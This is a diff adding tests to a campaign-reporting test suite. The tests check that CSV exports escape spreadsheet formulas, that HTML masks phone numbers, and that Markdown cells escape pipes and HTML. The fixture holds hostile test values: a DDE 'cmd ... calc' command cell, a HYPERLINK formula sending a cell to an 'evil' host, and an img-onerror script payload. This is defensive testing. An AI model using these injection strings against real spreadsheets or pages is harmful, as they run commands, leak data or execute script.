@@ -3,8 +3,9 @@ artifact data, points settled, and no phone number anywhere."""
 
 from __future__ import annotations
 
+import csv
 import re
-from datetime import date
+from datetime import UTC, date, datetime
 from decimal import Decimal
 from pathlib import Path
 
@@ -188,3 +189,80 @@ def test_artifact_data_is_plain(db: Store) -> None:
 def test_unknown_campaign_is_an_error(db: Store, tmp_path: Path) -> None:
     with pytest.raises(LookupError):
         write_report(db, "nope", tmp_path)
+
+
+# Text cells a spreadsheet would run as a formula (the `=`, `+`, `-`, `@` of pipeline/render/prepare.py).
+FORMULA = "=+-@"
+HOSTILE_ID = "=cmd|' /C calc'!A0"
+
+
+def _hostile_campaign(db: Store) -> None:
+    """A campaign whose id, failure codes and titles, approval and arm are formulas, HTML, and table pipes."""
+    add_campaign(db, HOSTILE_ID, name="Promo for +44 7700 900123", template="tpl_+447700900456")
+    for i, (code, title) in enumerate([("=1+2", '=HYPERLINK("http://evil/?"&A1,"click")'),
+                                       ("-2+3", "<img src=x onerror=alert(1)> | quoted | here")]):
+        add_outbox(db, HOSTILE_ID, f"h{i}", recipient_key=f"+4477009009{i:02d}", state="sent", country="GB",
+                   provider_message_id=f"wamid.h{i}", sent_at="2026-10-10 10:00:00+00")
+        add_receipt(db, f"h{i}:failed", f"h{i}", "failed", "2026-10-10 10:01:00+00", error_code=code,
+                    error_title=title)
+    db.execute("""INSERT INTO campaign_approvals (request_id, campaign_id, origin, requested_by, requested_at, messages,
+                  estimate_usd, decision, approver, comment, decided_at) VALUES ('r1', :c, '=1+1', '@SUM(1+1)', :t, 2,
+                  '0.1', 'approved', '-2+3', '=HYPERLINK("http://evil","ok")', :t)""",
+               c=HOSTILE_ID, t=datetime(2026, 10, 10, tzinfo=UTC))
+    for key, arm in (("+447700900900", "=1+2"), ("+447700900999", "holdout")):
+        db.execute("INSERT INTO experiment_arms (campaign_id, recipient_key, arm, country, assigned_at) "
+                   "VALUES (:c, :k, :a, 'GB', :t)", c=HOSTILE_ID, k=key, a=arm, t=datetime(2026, 10, 10, tzinfo=UTC))
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """The cells of a CSV file a spreadsheet would evaluate (a number, e.g. a negative amount, is no formula)."""
+    def number(cell: str) -> bool:
+        try:
+            float(cell)
+        except ValueError:
+            return False
+        return True
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [c for row in csv.reader(handle) for c in row if c and c[0] in FORMULA and not number(c)]
+
+
+def test_every_csv_of_the_reports_is_spreadsheet_safe(db: Store, tmp_path: Path) -> None:
+    _hostile_campaign(db)
+    files = write_report(db, HOSTILE_ID, tmp_path / "campaign")
+    period = write_period_report(db, "2026-10", tmp_path / "period")
+    written = [files.csv, files.failures_csv, files.approvals_csv, files.experiment_csv, period.csv,
+               period.failures_csv]
+    assert all(path is not None and path.is_file() for path in written)
+    for path in written:
+        assert _formula_cells(path) == [], path.name  # type: ignore[arg-type]
+    # Neutralised, not dropped: the cell is the text with a ' before it.
+    assert "'=1+2" in files.failures_csv.read_text() and f"'{HOSTILE_ID}" in period.csv.read_text()
+    assert "'-2+3" in files.approvals_csv.read_text()  # type: ignore[union-attr]
+    # No writer of pipeline/costs bypasses pipeline/costs/exports.write_csv (where the escape is).
+    package = Path(__file__).resolve().parents[2] / "pipeline" / "costs"
+    assert [p.name for p in sorted(package.glob("*.py")) if p.name != "exports.py"
+            and re.search(r"\.write_csv\(|csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))] == []
+
+
+def test_the_page_masks_the_campaign_name_and_header(db: Store, tmp_path: Path) -> None:
+    _hostile_campaign(db)
+    html = write_report(db, HOSTILE_ID, tmp_path).html.read_text(encoding="utf-8")
+    head = html[: html.index('<p class="meta">')]
+    assert "+44*******123" in head  # the name is shown in the title and the heading, masked
+    meta = html[html.index('<p class="meta">'):]
+    meta = meta[: meta.index("</p>")]
+    assert "tpl_+44*******456" in meta
+    for phone in ("447700900123", "447700900456"):
+        assert phone not in digits(html)
+
+
+def test_markdown_failure_cells_keep_the_table_and_carry_no_html(db: Store, tmp_path: Path) -> None:
+    _hostile_campaign(db)
+    texts = [write_report(db, HOSTILE_ID, tmp_path).markdown.read_text(encoding="utf-8"),
+             report_artifacts(db, HOSTILE_ID)["markdown"]]
+    for text in texts:
+        table = text[text.index("## Failures by error code"):].split("\n\n")[1].splitlines()
+        assert table[0] == "| channel | code | meaning | failed |"
+        assert all(row.count("|") == 5 for row in table)  # a pipe in a provider's text splits no cell
+        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt; / quoted / here" in text
